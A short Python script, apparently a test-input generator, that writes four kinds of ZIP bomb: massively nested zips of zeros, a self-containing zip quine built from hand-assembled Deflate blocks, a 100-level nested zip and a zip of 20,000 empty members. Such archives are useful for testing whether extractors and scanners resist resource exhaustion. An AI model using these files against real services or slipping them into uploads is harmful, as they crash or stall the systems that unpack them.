#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Makes archives that would never end if they were believed.

usage: bombs.py KIND > FILE

  nested   zips of 16 zips, five levels deep, 10 MB of zeros in each innermost
  quine    a zip whose only member is the zip itself
  deep     a zip in a zip in a zip, 100 times
  many     a zip of 20,000 empty members
"""
import io
import struct
import sys
import zipfile


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def nested():
    content = bytes(10 << 20)
    for level in range(6):
        copies = 16 if level > 0 else 1
        content = zipped([("%d.zip" % i, content) for i in range(copies)])
    return content


def deep():
    content = b"the bottom"
    for _ in range(100):
        content = zipped([("a.zip", content)])
    return content


def many():
    return zipped([("%d" % i, b"") for i in range(20000)])


class Bits:
    """Deflate (RFC 1951), as far as a quine needs it."""

    def __init__(self):
        self.bits = []

    def number(self, value, n):
        self.bits += [value >> i & 1 for i in range(n)]

    def code(self, value, n):
        self.bits += [value >> i & 1 for i in reversed(range(n))]

    def block(self, is_last, length, back):
        """A block of fixed codes with one match; none if length is 0."""
        self.number(is_last, 1)
        self.number(1, 2)
        if length:
            self.length(length)
            self.distance(back)
        self.code(0, 7)

    def length(self, length):
        base, extra, symbol = 3, 0, 257
        while length >= base + (1 << extra):
            base += 1 << extra
            symbol += 1
            extra = max(0, (symbol - 261) // 4)
        self.code(symbol - 256, 7)
        self.number(length - base, extra)

    def distance(self, back):
        base, extra, symbol = 1, 0, 0
        while back >= base + (1 << extra):
            base += 1 << extra
            symbol += 1
            extra = max(0, (symbol - 2) // 2)
        self.code(symbol, 5)
        self.number(back - base, extra)

    def bytes(self):
        padded = self.bits + [0] * (-len(self.bits) % 8)
        return bytes(sum(padded[i + k] << k for k in range(8))
                     for i in range(0, len(padded), 8))


def literal(n):
    """The head of a stored block of n bytes: always five bytes."""
    return struct.pack("<BHH", 0, n, n ^ 0xffff)


def repeat(n, is_last=0):
    """Says the last n bytes again. Five bytes, of which at most two bits are
    left over: those are the beginning of the next stored block's head."""
    out = Bits()
    if n == 20:
        out.number(0, 1)
        out.number(1, 2)
        for _ in range(2):
            out.length(10)
            out.distance(20)
        out.code(0, 7)
    else:
        out.block(is_last, n, n)
        if not is_last:
            out.block(0, 0, 0)
    assert is_last or 38 <= len(out.bits) <= 40
    return out.bytes()


def program(head, tail):
    """Deflated bytes that unpack to head, themselves, and tail."""
    p = len(head) + 5
    s = len(repeat(73, 1)) + len(tail)
    of_head, of_tail, four = repeat(p), repeat(s, 1), repeat(20)
    l1, l4, lp, ls, l0 = (literal(n) for n in (5, 20, p, s, 0))
    return b"".join([
        lp, head, lp, of_head, l1, of_head, l1, l1,
        l4, of_head, l1, l1, l4, four,
        l4, four, l4, four, l4, four,
        l4, four, l0, l0, ls, four,
        l0, l0, ls, of_tail, tail, of_tail])


def quine():
    def parts(packed, real):
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, packed, real, 1,
                             0)
        local = b"PK\3\4" + fields + b"q"
        entry = b"PK\1\2" + struct.pack("<H", 20) + fields + \
            struct.pack("<HHHII", 0, 0, 0, 0, 0) + b"q"
        end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry),
                                      len(local) + packed, 0)
        return local, entry + end

    packed = len(program(*parts(0, 0)))
    real = packed + sum(len(part) for part in parts(0, 0))
    head, tail = parts(packed, real)
    return head + program(head, tail) + tail


def main():
    kinds = {"nested": nested, "quine": quine, "deep": deep, "many": many}
    if len(sys.argv) != 2 or sys.argv[1] not in kinds:
        sys.exit(__doc__.strip())
    sys.stdout.buffer.write(kinds[sys.argv[1]]())


if __name__ == "__main__":
    main()
